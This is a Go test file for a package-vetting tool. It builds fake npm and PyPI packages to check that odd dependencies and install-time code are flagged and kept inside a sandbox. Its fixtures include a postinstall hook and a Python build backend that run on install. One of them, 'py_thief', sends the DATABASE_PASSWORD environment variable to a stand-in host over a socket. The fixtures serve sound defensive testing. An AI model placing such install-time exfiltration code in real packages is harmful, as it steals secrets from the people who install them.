package vet

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gauntlet/finding"
	"gauntlet/internal/runtime/fetch"
	"gauntlet/result"
)

// publishSource publishes the source of a package of Python that brings a build of its own, which leaves a mark.
func (w *world) publishSource(t *testing.T, name, version, mark, code string) {
	t.Helper()
	index := strings.ReplaceAll(name, "_", "-")
	info := fmt.Sprintf("%s-%s.dist-info/", name, version)
	build := fmt.Sprintf(`import os, zipfile
try: open(%q, "w").close()
except OSError: pass
%s
FILES = {%q: %q, %q: "Metadata-Version: 2.1\nName: %s\nVersion: %s\n", %q: "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n", %q: "[console_scripts]\n%s = server:main\n", %q: ""}
def build_wheel(d, c=None, m=None):
    with zipfile.ZipFile(d + "/%s-%s-py3-none-any.whl", "w") as z:
        for n, text in FILES.items(): z.writestr(n, text)
    return "%s-%s-py3-none-any.whl"
`, mark, code, "server.py", pythonServer("", echo), info+"METADATA", name, version, info+"WHEEL", info+"entry_points.txt", name, info+"RECORD", name, version, name, version)
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	out := tar.NewWriter(z)
	top := name + "-" + version + "/"
	for file, text := range map[string]string{"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"be\"\nbackend-path = [\".\"]\n", "be.py": build, "PKG-INFO": "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"} {
		if err := errors.Join(out.WriteHeader(&tar.Header{Name: top + file, Mode: 0o644, Size: int64(len(text))}), write(out, text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(out.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	file := name + "-" + version + ".tar.gz"
	w.publish(func() {
		w.archive["/wheels/"+file] = b.Bytes()
		w.pypi[index] = append(w.pypi[index], map[string]any{"filename": file, "url": w.URL + "/wheels/" + file, "hashes": map[string]any{}, "yanked": false})
	})
}

// What an installation brings in is what is vetted: what the registry says beside the archive, what comes from elsewhere than the
// registry, what is missing, what has to be built. Nothing of it runs outside the sandbox, and no address of this machine is asked.
func TestDependenciesThatAreOdd(t *testing.T) {
	w := newWorld(t)
	mark := filepath.Join(w.home, "ran")
	server := files{"index.js": nodeServer("", echo)}
	needing := func(more map[string]any) map[string]any { return nodeManifest(more) }
	part := files{"m.js": "module.exports = 1\n"}
	w.publishNPM(t, "part", "1.2.0", map[string]any{"main": "m.js"}, part)
	w.publishNPM(t, "part-win32", "1.2.0", map[string]any{"os": []any{"win32"}}, part)
	w.publishNPM(t, "payload", "1.0.0", map[string]any{"scripts": map[string]any{"postinstall": "touch " + mark}}, part)
	w.publishNPM(t, "honest", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"part": "^1.0.0", "other": "npm:part@1"}}), server)
	w.publishNPM(t, "platforms", "1.0.0", needing(map[string]any{"optionalDependencies": map[string]any{"part-win32": "1.2.0", "part": "1.2.0"}}), server)
	w.publishNPM(t, "confused", "1.0.0", needing(nil), server)
	w.publish(func() {
		one := w.npm["confused"]["versions"].(map[string]any)["1.0.0"].(map[string]any)
		one["dependencies"], one["hasInstallScript"] = map[string]any{"payload": "1.0.0"}, true
	})
	inner := w.URL[:strings.LastIndexByte(w.URL, ':')] + ":9"
	w.publishNPM(t, "by-url", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"x": inner + "/admin"}}), server)
	w.publishNPM(t, "by-file", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"x": "file:" + w.home}}), server)
	w.publishNPM(t, "by-git", "1.0.0", needing(map[string]any{"optionalDependencies": map[string]any{"x": "github:someone/something"}}), server)
	w.publishNPM(t, "free", "1.0.0", needing(map[string]any{"optionalDependencies": map[string]any{"nobody": "1.0.0"}}), server)
	w.publishNPM(t, "peers", "1.0.0", needing(map[string]any{"peerDependencies": map[string]any{"part": "1", "part-win32": "1.2.0"}, "peerDependenciesMeta": map[string]any{"part-win32": map[string]any{"optional": true}}}), server)
	w.publishNPM(t, "deeper", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"by-git": "1.0.0"}}), server)
	w.publishNPM(t, "bundling", "1.0.0", needing(map[string]any{"dependencies": map[string]any{"x": "1.0.0"}, "bundleDependencies": []any{"x"}}), files{"index.js": server["index.js"], "node_modules/x/package.json": `{"name":"x","version":"1.0.0"}`})
	w.publishPyPI(t, "py-old", "0.3", "", files{"server.py": pythonServer("", echo), "INFO/entry_points.txt": "[console_scripts]\npy_old = server:main\n"})
	w.publishSource(t, "py_old", "0.4", mark, "")
	w.publishSource(t, "py_built", "1.0", mark, "")
	w.publishSource(t, "py_thief", "1.0", mark, `import socket; socket.create_connection(("203.0.113.9", 443), 5).sendall(os.environ["DATABASE_PASSWORD"].encode())`)
	w.publishPyPI(t, "py-hidden", "1.0", " \nRequires-Dist: py_built @ "+w.URL+"/wheels/py_built-1.0.tar.gz\n", files{"server.py": pythonServer("", echo), "INFO/entry_points.txt": "[console_scripts]\npy_hidden = server:main\n"})
	w.publishPyPI(t, "py-platforms", "1.0", "Requires-Dist: winthing; sys_platform == 'win32'\nRequires-Dist: more; extra == 'all'\n", files{"server.py": pythonServer("", echo), "INFO/entry_points.txt": "[console_scripts]\npy_platforms = server:main\n"})

	for _, tt := range []struct {
		target string
		rules  string // above info
		odd    string // KIND PACKAGE of each
		says   string
	}{
		{"npm:honest", "", "alias other is part@1.2.0", "2 packages that it depends on"},
		{"npm:platforms", "", "absent part-win32@1.2.0", "1 package that it depends on"},
		{"npm:confused", "GNT-601 GNT-608", "manifest confused@1.0.0", "1 package that it depends on"},
		{"npm:by-url", "GNT-607", "address x", "ECONNREFUSED"},
		{"npm:by-file", "GNT-607", "address x", ""},
		{"npm:by-git", "GNT-607", "absent x@github:someone/something, address x", "0 packages that it depends on"},
		{"npm:free", "GNT-607", "absent nobody@1.0.0, free nobody@1.0.0", "0 packages that it depends on"},
		{"npm:peers", "", "absent part-win32@1.2.0", "1 package that it depends on"},
		{"npm:deeper", "GNT-607", "absent x@github:someone/something, address x", "1 package that it depends on"},
		{"npm:bundling", "GNT-607", "bundled x@1.0.0", "1 package that it depends on"},
		{"pypi:py-old", "GNT-601", "", "py-old@0.4"},
		{"pypi:py-old==0.3", "", "", "py-old@0.3"},
		{"pypi:py-thief", "GNT-501 GNT-601 GNT-607", "address py-thief@1.0", ""},
		{"pypi:py-hidden", "GNT-601 GNT-607", "address py-built@1.0", "1 package that it depends on"},
		{"pypi:py-platforms", "", "absent winthing", "0 packages that it depends on"},
	} {
		t.Run(tt.target, func(t *testing.T) {
			if os.Getenv("GAUNTLET_HEAVY") == "" && slices.Contains([]string{"npm:platforms", "npm:deeper", "npm:bundling", "npm:by-file", "pypi:py-old", "pypi:py-old==0.3", "pypi:py-platforms"}, tt.target) {
				t.Skip("it takes seconds: only with GAUNTLET_HEAVY=1, as .ci/full has it")
			}
			kind, _, _ := strings.Cut(tt.target, ":")
			needs(t, map[string]string{"npm": "npm", "pypi": "pip"}[kind])
			r, v := w.vet(t, w.options(Definitions), Target{Spec: spec(t, tt.target)})
			if got := strings.Join(rules(r), " "); got != tt.rules {
				t.Errorf("rules %q, want %q: %s", got, tt.rules, describe(v))
			}
			var odd []string
			for _, o := range v.Package.Odd {
				if one := o.Kind + " " + o.Package; !slices.Contains(odd, one) {
					odd = append(odd, one)
				}
			}
			slices.Sort(odd)
			if got := strings.Join(odd, ", "); got != tt.odd {
				t.Errorf("odd are %q, want %q: %+v", got, tt.odd, v.Package.Odd)
			}
			if !strings.Contains(describe(v), tt.says) {
				t.Errorf("%s; want %q in it", describe(v), tt.says)
			}
			if _, err := os.Stat(mark); err == nil {
				t.Error("something of the package ran outside of the sandbox")
			}
		})
	}
}

// Without a sandbox archives are read and nothing is resolved, which the report says.
func TestNothingIsResolvedWithoutSandbox(t *testing.T) {
	w := newWorld(t)
	mark := filepath.Join(w.home, "ran")
	w.publishNPM(t, "weather", "1.0.0", nodeManifest(map[string]any{"dependencies": map[string]any{"part": "1.0.0"}}), files{"index.js": nodeServer("", echo)})
	w.publish(func() { w.archive["/npm/part"] = nil }) // asking for it would never end
	w.publishPyPI(t, "py-old", "0.3", "", files{"server.py": pythonServer("", echo)})
	w.publishSource(t, "py_old", "0.4", mark, "")
	w.publishGo(t, "example.org/weather", "v1.0.0", files{"go.mod": goMod, "main.go": goServer(echo)})
	for _, target := range []string{"npm:weather", "pypi:py-old==0.3", "go:example.org/weather"} {
		t.Run(target, func(t *testing.T) {
			needs(t, map[string]string{"n": "npm", "p": "pip", "g": "go"}[target[:1]])
			opt := w.options(Definitions)
			opt.Sandboxed = func() error { return errors.New("not on this machine") }
			r, v := w.vet(t, opt, Target{Spec: spec(t, target)})
			if !strings.Contains(describe(v), fetch.ErrUnsealed.Error()) || !strings.Contains(describe(v), "{fetch done") && !strings.Contains(fmt.Sprint(v.Steps), "fetch done") {
				t.Errorf("%s", describe(v))
			}
			if code := r.ExitCode(finding.High, false); code != result.ExitTrouble {
				t.Errorf("exit code %d", code)
			}
			if _, err := os.Stat(mark); err == nil {
				t.Error("something of the package ran")
			}
		})
	}
}
